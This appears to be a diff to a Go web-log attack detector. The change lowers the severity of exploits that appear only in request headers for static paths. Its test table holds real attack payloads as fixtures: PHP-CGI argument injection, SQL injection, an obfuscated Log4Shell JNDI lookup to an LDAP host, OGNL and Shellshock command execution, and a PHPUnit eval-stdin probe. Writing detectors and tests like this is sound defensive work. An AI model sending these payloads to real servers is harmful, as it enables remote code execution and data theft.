@@ -176,6 +176,12 @@ func (m *requestMatcher) judge(method, url, agent, referer string) (best match) 
 	return best
 }
 
+// ignored reports whether the exploit stands in a header of a request for no
+// program: nearly every server answers that without looking at the header.
+func (m *match) ignored(path string) bool {
+	return (strings.HasPrefix(m.what, "the user agent ") || strings.HasPrefix(m.what, "the referrer ")) && !dynamicPath(path) && !strings.Contains(path, "cgi-bin/")
+}
+
 func better(best *match, a attack, what string, sure bool) {
 	if a > best.attack || a == best.attack && sure && !best.sure {
 		*best = match{attack: a, what: what, sure: sure}
@@ -837,6 +843,9 @@ func severityOf(m *match, a answer, path string) rules.Severity {
 	if a == refused {
 		return rules.Low
 	}
+	if m.ignored(path) && a != crashed {
+		return rules.Low
+	}
 	switch m.attack {
 	case crossSite:
 		return rules.Low
@@ -877,6 +886,7 @@ type exploitChecker struct {
 }
 
 type exploitGroup struct {
+	headers  bool // all stand in headers that nothing reads
 	attack   attack
 	refused  bool
 	first    string // the gravest request, for the summary
@@ -912,7 +922,7 @@ func (c *exploitChecker) Record(r *timeline.Record) {
 	g := c.groups.Get(address + state + string(rune(m.attack)))
 	e := c.more[g]
 	if e == nil {
-		e = &exploitGroup{attack: m.attack, refused: a == refused, status: map[string]int{}}
+		e = &exploitGroup{headers: true, attack: m.attack, refused: a == refused, status: map[string]int{}}
 		if c.more == nil {
 			c.more = map[*rules.Group]*exploitGroup{}
 		}
@@ -923,6 +933,7 @@ func (c *exploitChecker) Record(r *timeline.Record) {
 		g.Address = ""
 	}
 	t, note := when(r)
+	e.headers = e.headers && m.ignored(path)
 	g.Raise(s)
 	g.Add(r.Evidence, t, note)
 	if len(e.status) < 16 || e.status[f["status"]] > 0 {
@@ -1009,6 +1020,9 @@ func (c *exploitChecker) Findings() []rules.Finding {
 		default:
 			f := g.Finding()
 			f.Title = strings.ToUpper(name[:1]) + name[1:] + " in a request, answered by the server"
+			if e.headers {
+				f.Title = strings.ToUpper(name[:1]) + name[1:] + " in a header of a request was sent"
+			}
 			f.Techniques = attackTechniques(e.attack)
 			f.Summary = show(g.Address) + " sent " + plural(g.Count, "request") + " with " + name + ", answered " + statusText(e.status)
 			if before := c.groups.Find(g.Address + "\x00" + string(rune(e.attack))); before != nil {
@@ -1085,7 +1099,7 @@ Innocent: scanners that the owner ordered; pages about these things, whose searc
 		one("PHP as CGI", rules.High, aRequest("198.51.100.7", "POST", "/index.php?-d+allow_url_include%3d1+-d+auto_prepend_file%3dphp://input", 200)),
 		one("SQL", rules.Medium, aRequest("198.51.100.7", "GET", "/news.php?id=-1%20UNION%20ALL%20SELECT%201,user(),3--%20-", 200)),
 		one("SQL with comments", rules.Medium, aRequest("198.51.100.7", "GET", "/news.php?id=1'/**/or/**/1=1#", 200)),
-		one("JNDI in the user agent", rules.Medium, aRequest("198.51.100.7", "GET", "/", 200, "user_agent", "${${lower:j}ndi:${::-l}dap://198.51.100.7/a}")),
+		one("JNDI in the user agent", rules.Low, aRequest("198.51.100.7", "GET", "/", 200, "user_agent", "${${lower:j}ndi:${::-l}dap://198.51.100.7/a}")),
 		one("OGNL", rules.High, aRequest("198.51.100.7", "GET", "/index.action?redirect:%24%7B%23a%3D(new%20java.lang.ProcessBuilder(%27id%27)).start()%7D", 200)),
 		one("Shellshock", rules.High, aRequest("198.51.100.7", "GET", "/cgi-bin/status", 200, "user_agent", "() { :;}; /bin/bash -c 'id'")),
 		one("PHPUnit", rules.High, aRequest("198.51.100.7", "POST", "/vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php", 200)),
